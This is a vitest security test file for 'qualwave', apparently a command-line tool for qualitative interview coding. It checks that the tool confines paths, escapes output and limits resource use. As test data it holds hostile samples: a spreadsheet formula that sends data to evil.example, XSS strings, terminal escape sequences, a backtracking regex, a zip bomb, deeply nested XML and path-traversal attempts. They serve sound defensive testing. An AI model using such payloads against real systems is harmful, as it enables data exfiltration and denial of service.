import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLValidator } from 'fast-xml-parser';
import { unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { cli, copyOf, io, snapshot, tinyStudy } from '../helpers/inproc.js';

/** One test per injection, confinement and denial-of-service case of issue 11: the safe output or the clear error. */
const yaml = (dir: string) => join(dir, 'qualwave.yaml');
const withOutputs = (outputs: string) => tinyStudy({ outputs: `outputs:\n${outputs}` });
const unchanged = (dir: string, before: Map<string, Buffer>) => {
  const now = snapshot(dir);
  expect([...now.keys()].sort()).toEqual([...before.keys()].sort());
  for (const [f, b] of before) expect(now.get(f)!.equals(b), f).toBe(true);
};

describe('build is declarative and confined', () => {
  it('an output that runs a writing command is refused by validate (file:line) and build writes nothing', async () => {
    const dir = withOutputs('  - file: tables/t.md\n    run: autocode --coder alice --force\n');
    const before = snapshot(dir);
    const v = await cli(['validate', dir]);
    expect(v.code).toBe(2);
    expect(v.stderr).toMatch(/qualwave\.yaml:\d+:\d+: error: output 'tables\/t\.md' runs 'autocode', which is not a command that only reads the study/);
    expect((await cli(['build', dir])).code).toBe(2);
    unchanged(dir, before);
  });
  it('no recursion: run: build is refused', async () => {
    const v = await cli(['validate', withOutputs('  - file: tables/t.md\n    run: build\n')]);
    expect(v.stderr).toMatch(/runs 'build', which is not a command that only reads/);
  });
  it("outputs[].file may not be the study's data, its config, .git, or written twice", async () => {
    const dir = withOutputs(['codings/alice.tsv', 'qualwave.yaml', '.git/HEAD', 'tables/x.md', 'tables/x.md', 'codebooks/cb.yaml'].map((f) => `  - file: ${f}\n    run: matrix\n`).join(''));
    const v = await cli(['validate', dir]);
    expect(v.code).toBe(2);
    for (const m of [/'codings\/alice\.tsv' is inside codings\//, /'qualwave\.yaml' is the study's configuration/, /'\.git\/HEAD' is inside \.git\//, /'tables\/x\.md' is written by another output too/, /'codebooks\/cb\.yaml' is inside codebooks\//]) expect(v.stderr).toMatch(m);
    // An input that lives elsewhere than the protected folders: refused as an input.
    const p = await cli(['validate', withOutputs('  - file: participants.csv\n    run: matrix\n')]);
    expect(p.stderr).toMatch(/'participants\.csv' is an input of the study/);
  });
  it('a symlinked tables/ folder that leads outside the study is refused', async () => {
    const dir = withOutputs('  - file: tables/t.md\n    run: matrix\n');
    const elsewhere = join(tmpdir(), `qualwave-elsewhere-${process.pid}`);
    mkdirSync(elsewhere, { recursive: true });
    symlinkSync(elsewhere, join(dir, 'tables'));
    const v = await cli(['build', dir]);
    expect(v.code).toBe(2);
    expect(v.stderr).toMatch(/output file 'tables\/t\.md' leads outside the study folder/);
    expect(existsSync(join(elsewhere, 't.md'))).toBe(false);
  });
  it('build --check writes nothing, ever (not even a lock or the .qualwave folder)', async () => {
    const dir = tinyStudy();
    mkdirSync(join(dir, 'tables'));
    writeFileSync(join(dir, 'tables', 'themes.md'), 'stale\n');
    const before = snapshot(dir);
    const r = await cli(['build', '--check', dir]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/stale/);
    unchanged(dir, before);
    expect(existsSync(join(dir, '.qualwave'))).toBe(false);
  });
});

describe('inputs stay inside the study', () => {
  it('absolute and ../ paths in qualwave.yaml are refused with file:line', async () => {
    const dir = tinyStudy();
    writeFileSync(yaml(dir), readFileSync(yaml(dir), 'utf8') + 'participants:\n  file: ../people.csv\ncodebooks: [/etc/cb.yaml]\ntranscripts:\n  paths: ["/etc/*"]\n');
    const v = await cli(['validate', dir]);
    expect(v.code).toBe(2);
    expect(v.stderr).toMatch(/qualwave\.yaml:\d+: error: participants file '\.\.\/people\.csv' is outside the study folder: refused/);
    expect(v.stderr).toMatch(/codebook '\/etc\/cb\.yaml' is outside the study folder/);
    expect(v.stderr).toMatch(/transcripts path '\/etc\/\*' is outside the study folder/);
  });
  it('a symlink in transcripts/ to a file outside is refused and named; --allow-outside reads it', async () => {
    const dir = tinyStudy();
    const outside = join(tmpdir(), `qualwave-secret-${process.pid}.txt`);
    writeFileSync(outside, 'I: secret?\nP: the secret outside the study\n');
    symlinkSync(outside, join(dir, 'transcripts', 'P3_post.txt'));
    const v = await cli(['validate', dir]);
    expect(v.code).toBe(2);
    expect(v.stderr).toMatch(/transcripts\/P3_post\.txt: error: transcripts\/P3_post\.txt leads outside the study folder \(a symbolic link\?\): refused/);
    const q = await cli(['export', '--format', 'qdc', '--study', dir]);
    expect(q.code).toBe(2);
    const ok = await cli(['validate', dir, '--allow-outside']);
    expect(ok.code, ok.stderr).toBe(0);
  });
});

describe('-o FILE --force replaces regular files only', () => {
  it('refuses a symbolic link, a device and a folder, naming the path', async () => {
    const dir = tinyStudy();
    writeFileSync(join(dir, 'real.md'), 'real\n');
    symlinkSync(join(dir, 'real.md'), join(dir, 'link.md'));
    for (const [target, what] of [
      [join(dir, 'link.md'), 'a symbolic link'],
      ['/dev/null', 'a device'],
      [join(dir, 'codings'), 'a folder'],
    ] as const) {
      const r = await cli(['summary', '--format', 'md', '-o', target, '--force', '--study', dir]);
      expect(r.code, target).toBe(2);
      expect(r.stderr).toMatch(new RegExp(`it is ${what}, not a regular file`));
    }
    expect(readFileSync(join(dir, 'real.md'), 'utf8')).toBe('real\n');
  });
  it('permission denied names the file and says what to do, exit 2 (not "please report")', async () => {
    const dir = tinyStudy();
    const seam = await io();
    const restore = seam.setFsOps({
      open: () => {
        throw Object.assign(new Error('EACCES: denied'), { code: 'EACCES' });
      },
    });
    let r: Awaited<ReturnType<typeof cli>> | undefined;
    try {
      r = await cli(['summary', '--format', 'md', '-o', join(dir, 'out.md'), '--study', dir]);
    } finally {
      restore();
    }
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/cannot write .*out\.md: permission denied/);
    expect(r.stderr).toMatch(/hint: check the permissions/);
  });
  it('an internal error has its own exit code (70) and asks to be reported', async () => {
    const dir = tinyStudy();
    const seam = await io();
    const restore = seam.setFsOps({
      write: () => {
        throw new TypeError('a bug');
      },
    });
    let r: Awaited<ReturnType<typeof cli>> | undefined;
    try {
      r = await cli(['code', 'P1', 'pre', '--coder', 'alice', '--apply', 'care', '--lines', '2', '--study', dir]);
    } finally {
      restore();
    }
    expect(r.code).toBe(70);
    expect(r.stderr).toMatch(/unexpected error: a bug[\s\S]*please report it/);
  });
});

describe('text is data', () => {
  it('codings export guards formulas (and codings import reads them back exactly); --csv-raw opts out', async () => {
    const dir = tinyStudy();
    const memo = '=HYPERLINK("http://evil.example/?"&A1,"click")\r@SUM(1)';
    expect((await cli(['code', 'P1', 'pre', '--coder', 'alice', '--apply', 'worry', '--lines', '2', '--memo', memo, '--study', dir])).code).toBe(0);
    const csv = (await cli(['codings', 'export', '--study', dir])).stdout;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")\r'@SUM(1)"`);
    expect((await cli(['codings', 'export', '--csv-raw', '--study', dir])).stdout).toContain('"=HYPERLINK(');
    const other = copyOf(dir);
    writeFileSync(join(other, 'codings', 'alice.tsv'), 'participant\twave\tlines\tcode\texemplar\tmemo\thash\n');
    writeFileSync(join(tmpdir(), `export-${process.pid}.csv`), csv);
    expect((await cli(['codings', 'import', join(tmpdir(), `export-${process.pid}.csv`), '--study', other])).code).toBe(0);
    const memos = (d: string) =>
      readFileSync(join(d, 'codings', 'alice.tsv'), 'utf8')
        .split('\n')
        .map((l) => l.split('\t').slice(0, 6).join('\t'));
    expect(memos(other)).toEqual(memos(dir));
    expect(readFileSync(join(other, 'codings', 'alice.tsv'), 'utf8')).toContain(JSON.stringify(memo).replace(/\\"/g, '""').replace('\\r', '\r'));
  });
  it('HTML and Markdown in transcripts and memos never reach the quotes or the meeting file raw', async () => {
    const dir = tinyStudy();
    const t = join(dir, 'transcripts', 'P1_pre.txt');
    writeFileSync(t, readFileSync(t, 'utf8').replace('I needed rest', 'I needed rest <script>alert(1)</script> ![x](http://track.example/p.png) and a long time to talk about it all with the people who were there for us in those months'));
    expect((await cli(['code', 'P1', 'pre', '--coder', 'ben', '--apply', 'worry', '--lines', '2', '--memo', '<img src=x onerror=alert(2)>', '--study', dir])).code).toBe(0);
    const quotes = await cli(['quotes', '--coder', 'alice', '--min-words', '3', '--study', dir]);
    expect(quotes.code, quotes.stderr).toBe(0);
    expect(quotes.stdout).toContain('\\<script\\>');
    expect(quotes.stdout).not.toMatch(/(?<!\\)<script|!\[x\]\(/);
    const meeting = await cli(['disagreements', '--format', 'md', '--study', dir]);
    expect(meeting.stdout).toContain('\\<img src=x onerror=alert(2)\\>');
    expect(meeting.stdout).not.toMatch(/(?<!\\)<(img|script)/);
  });
  it('escape sequences in a transcript never reach the terminal', async () => {
    const dir = tinyStudy();
    const t = join(dir, 'transcripts', 'P1_pre.txt');
    writeFileSync(t, readFileSync(t, 'utf8').replace('I needed rest', 'I needed \x1b]0;pwned\x07rest\x1b[2J'));
    const r = await cli(['codings', '--coder', 'alice', '--study', dir]);
    expect(r.stdout).toContain('I needed rest');
    expect(r.stdout).not.toMatch(/\x1b|\x07/);
  });
  it('control characters in a memo: the exported project.qde is well-formed XML, and the change is reported', async () => {
    const dir = tinyStudy();
    expect((await cli(['code', 'P1', 'pre', '--coder', 'alice', '--apply', 'worry', '--lines', '2', '--memo', 'bell\u0007 and form\u000c feed', '--study', dir])).code).toBe(0);
    const out = join(tmpdir(), `ctl-${process.pid}.qdpx`);
    const r = await cli(['export', '--study', dir, '-o', out, '--force']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/note: 2 control characters that XML 1\.0 cannot hold/);
    const qde = new TextDecoder().decode(unzipSync(readFileSync(out))['project.qde']!);
    expect(XMLValidator.validate(qde)).toBe(true);
    expect(qde).toContain('bell and form feed');
  });
  it('.qdpx and .docx are the same bytes across runs and time zones', async () => {
    const dir = tinyStudy();
    const bytes: Buffer[] = [];
    const docs: Buffer[] = [];
    const tz = process.env['TZ'];
    try {
      for (const zone of ['UTC', 'Pacific/Chatham', 'America/St_Johns']) {
        process.env['TZ'] = zone;
        const out = join(tmpdir(), `tz-${process.pid}-${zone.replace('/', '-')}`);
        expect((await cli(['export', '--study', dir, '-o', `${out}.qdpx`])).code).toBe(0);
        expect((await cli(['quotes', '--coder', 'alice', '--min-words', '3', '--format', 'docx', '--study', dir, '-o', `${out}.docx`])).code).toBe(0);
        bytes.push(readFileSync(`${out}.qdpx`));
        docs.push(readFileSync(`${out}.docx`));
        await new Promise((r) => setTimeout(r, 1100));
      }
    } finally {
      if (tz === undefined) delete process.env['TZ'];
      else process.env['TZ'] = tz;
    }
    expect(bytes[1]!.equals(bytes[0]!) && bytes[2]!.equals(bytes[0]!)).toBe(true);
    expect(docs[1]!.equals(docs[0]!) && docs[2]!.equals(docs[0]!)).toBe(true);
  }, 30_000);
  it('names in different Unicode normal forms match (a Mac writes file names in NFD)', async () => {
    const dir = tinyStudy();
    writeFileSync(join(dir, 'participants.csv'), 'id,site\nP1,north\nP2,south\nP3,north\nJos\u00e9,west\n');
    writeFileSync(join(dir, 'transcripts', 'Jose\u0301_pre.txt'), 'I: Hello?\nP: Bonjour, I needed rest.\n');
    writeFileSync(join(dir, 'codings', 'rene\u0301.tsv'), 'participant\twave\tlines\tcode\texemplar\tmemo\thash\nJose\u0301\tpre\t2\tcare\t\t\t\n');
    const v = await cli(['validate', dir]);
    expect(v.code, v.stderr).toBe(0);
    expect((await cli(['code', 'Jos\u00e9', 'pre', '--coder', 'ren\u00e9', '--apply', 'care.time', '--lines', '2', '--study', dir])).code).toBe(0);
    expect(readFileSync(join(dir, 'codings', 'rene\u0301.tsv'), 'utf8')).toMatch(/care\.time/);
    expect(existsSync(join(dir, 'codings', 'ren\u00e9.tsv'))).toBe(false);
  });
});

describe('bounded work', () => {
  it('a backtracking pattern is refused with file:line by validate and autocode; a polynomial one runs in linear time', async () => {
    const dir = tinyStudy();
    const cb = join(dir, 'codebooks', 'cb.yaml');
    writeFileSync(
      cb,
      readFileSync(cb, 'utf8').replace('        keywords: [rest]\n', () => "        keywords: [rest]\n        patterns:\n          - '^(a+)+$'\n"),
    );
    const v = await cli(['validate', dir]);
    expect(v.code).toBe(2);
    expect(v.stderr).toMatch(/codebooks\/cb\.yaml:10: error: pattern "\^\(a\+\)\+\$" of code 'care\.time' is refused: it can take exponential time/);
    expect((await cli(['autocode', '--study', dir])).code).toBe(2);
    // (a|a)*$ backtracks exponentially in JavaScript; it runs on the linear engine and finds nothing.
    writeFileSync(
      cb,
      readFileSync(cb, 'utf8').replace("'^(a+)+$'", () => "'(a|a)*b$'"),
    );
    const t = join(dir, 'transcripts', 'P3_pre.txt');
    writeFileSync(t, readFileSync(t, 'utf8').replace('Thank you.', 'a'.repeat(40) + 'c'));
    const a = await cli(['autocode', '--format', 'json', '--study', dir]);
    expect(a.code, a.stderr).toBe(0);
  });
  it('every zip has the limits: a .docx bomb is refused, and so are entries of exactly 1 MiB', async () => {
    const dir = tinyStudy();
    const bomb = zipSync({ '[Content_Types].xml': new Uint8Array(10), 'word/document.xml': new Uint8Array(64 * 1024 * 1024) }, { level: 9 });
    writeFileSync(join(dir, 'transcripts', 'P3_post.docx'), bomb);
    const v = await cli(['validate', dir]);
    expect(v.code).toBe(2);
    expect(v.stderr).toMatch(/P3_post\.docx: error: refused for safety: entry 'word\/document\.xml' expands more than 200 times/);
    const exact = zipSync(Object.fromEntries(Array.from({ length: 3 }, (_, i) => [`sources/${i}.txt`, new Uint8Array(1024 * 1024)])), { level: 9 });
    const f = join(tmpdir(), `exact-${process.pid}.qdpx`);
    writeFileSync(f, exact);
    const r = await cli(['import', f, '--into', join(tmpdir(), `exact-into-${process.pid}`)]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/expands more than 200 times/);
  });
  it('the report with one 100 KB unbroken label completes, the label escaped', async () => {
    const dir = tinyStudy();
    const cb = join(dir, 'codebooks', 'cb.yaml');
    writeFileSync(cb, readFileSync(cb, 'utf8').replace('label: Care', `label: "<b>${'x'.repeat(100_000)}"`));
    const r = await cli(['report', '--coder', 'alice', '--study', dir]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`&lt;b&gt;${'x'.repeat(1000)}`);
  });
  it('deep XML in a .qdpx is a clear error', async () => {
    const f = join(tmpdir(), `deep-${process.pid}.qdpx`);
    writeFileSync(f, zipSync({ 'project.qde': new TextEncoder().encode(`<?xml version="1.0"?><Project name="x">${'<a>'.repeat(3000)}${'</a>'.repeat(3000)}</Project>`) }));
    const r = await cli(['import', f, '--into', join(tmpdir(), `deep-into-${process.pid}`)]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/nested more than 200 deep/);
  });
});

describe("never erase or drop the user's rows", () => {
  it('import --merge with a malformed participants.csv refuses (file:line) and writes nothing', async () => {
    const base = tinyStudy();
    const f = join(tmpdir(), `merge-${process.pid}.qdpx`);
    expect((await cli(['export', '--study', base, '-o', f, '--force'])).code).toBe(0);
    const dir = copyOf(base);
    writeFileSync(join(dir, 'participants.csv'), 'id,site\nP1,north\nP2,"south\nP3,north\n');
    const before = snapshot(dir);
    const r = await cli(['import', f, '--merge', '--into', dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/participants\.csv:\d+: error: cannot read CSV/);
    expect(r.stderr).toMatch(/nothing was written/);
    unchanged(dir, before);
  });
  it("import --merge never overwrites a codebook: the same file is left, the study's edits win, a partial overlap is refused", async () => {
    const base = tinyStudy();
    const f = join(tmpdir(), `cb-merge-${process.pid}.qdpx`);
    expect((await cli(['export', '--study', base, '-o', f, '--force'])).code).toBe(0);
    // 1. The project's codebook is codebooks/cb.yaml (a qualwave project names its file), the same text.
    const same = copyOf(base);
    const r1 = await cli(['import', f, '--merge', '--into', same]);
    expect(r1.code).toBe(0);
    expect(r1.stderr).toContain('codebooks/cb.yaml already the same');
    // 2. The analyst edited a label since: every code is still defined, so the edit is kept.
    const edited = copyOf(base);
    const cb = join(edited, 'codebooks', 'cb.yaml');
    writeFileSync(cb, readFileSync(cb, 'utf8').replace('label: Money', 'label: Money worries'));
    const before2 = readFileSync(cb, 'utf8');
    const r2 = await cli(['import', f, '--merge', '--into', edited]);
    expect(r2.code).toBe(0);
    expect(r2.stderr).toContain("the study's codebooks already have every code of the project (none written)");
    expect(readFileSync(cb, 'utf8')).toBe(before2);
    expect(readdirSync(join(edited, 'codebooks'))).toEqual(['cb.yaml']);
    // 3. The study has the codes in another file and lacks worry.money: writing cb.yaml would define
    //    care, care.time and worry twice; refused, the study unchanged.
    const partial = copyOf(base);
    rmSync(join(partial, 'codebooks', 'cb.yaml'));
    writeFileSync(join(partial, 'codebooks', 'mine.yaml'), 'title: Mine\ncodes:\n  - id: care\n    label: Care\n    children:\n      - id: care.time\n        label: Time off\n  - id: worry\n    label: Worry\n');
    const before3 = snapshot(partial);
    const r3 = await cli(['import', f, '--merge', '--into', partial]);
    expect(r3.code).toBe(2);
    expect(r3.stderr).toContain("the study's codebooks already define some of the project's codes but lack 1 (worry.money); nothing was written");
    unchanged(partial, before3);
    // 4. A study none of whose codes the project has: the project's codebook is a new file.
    const other = copyOf(base);
    rmSync(join(other, 'codebooks', 'cb.yaml'));
    writeFileSync(join(other, 'codebooks', 'own.yaml'), 'title: Own\ncodes:\n  - id: hope\n    label: Hope\n');
    const r4 = await cli(['import', f, '--merge', '--into', other]);
    expect(r4.code).toBe(0);
    expect(r4.stderr).toContain('codebook in codebooks/cb.yaml');
    expect(readFileSync(join(other, 'codebooks', 'cb.yaml'), 'utf8')).toBe(readFileSync(join(base, 'codebooks', 'cb.yaml'), 'utf8'));
  });
  it('a hand-edited bad row in a codings file is never deleted by a rewrite: refused with file:line', async () => {
    const dir = tinyStudy();
    const f = join(dir, 'codings', 'alice.tsv');
    writeFileSync(f, readFileSync(f, 'utf8') + 'P2\tpost\ttwelve\tcare\t\tI typed this by hand\t\n');
    const before = readFileSync(f);
    const r = await cli(['code', 'P1', 'pre', '--coder', 'alice', '--apply', 'care', '--lines', '2', '--study', dir]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/codings\/alice\.tsv:5: error: lines 'twelve' is not a line, a line range or a span/);
    const base = tinyStudy();
    const q = join(tmpdir(), `rows-${process.pid}.qdpx`);
    expect((await cli(['export', '--study', base, '-o', q, '--force'])).code).toBe(0);
    const m = await cli(['import', q, '--merge', '--into', dir]);
    expect(m.code).toBe(2);
    expect(m.stderr).toMatch(/codings\/alice\.tsv:5: lines 'twelve'/);
    expect(readFileSync(f).equals(before)).toBe(true);
  });
  it('attribution placeholders are checked: {constructor} is refused with file:line', async () => {
    const dir = tinyStudy();
    writeFileSync(yaml(dir), readFileSync(yaml(dir), 'utf8') + 'attribution: "({participant}, {constructor})"\n');
    const v = await cli(['validate', dir]);
    expect(v.code).toBe(2);
    expect(v.stderr).toMatch(/qualwave\.yaml:\d+: error: attribution '\(\{participant\}, \{constructor\}\)' uses \{constructor\}, which is not a field/);
  });
  it('the first cause is listed first: an unreadable transcript before the codings that point into it', async () => {
    const dir = tinyStudy();
    writeFileSync(join(dir, 'transcripts', 'P1_pre.txt'), Buffer.from([0x49, 0x3a, 0x20, 0xe9, 0x0a]));
    const v = await cli(['validate', dir]);
    expect(v.code).toBe(2);
    const first = v.stderr.split('\n').find((l) => /error|warning/.test(l))!;
    expect(first).toMatch(/transcripts\/P1_pre\.txt:1:\d+: error: file is not valid UTF-8/);
    expect(v.stderr).not.toMatch(/P1 has no transcript at wave 'pre'/);
  });
});
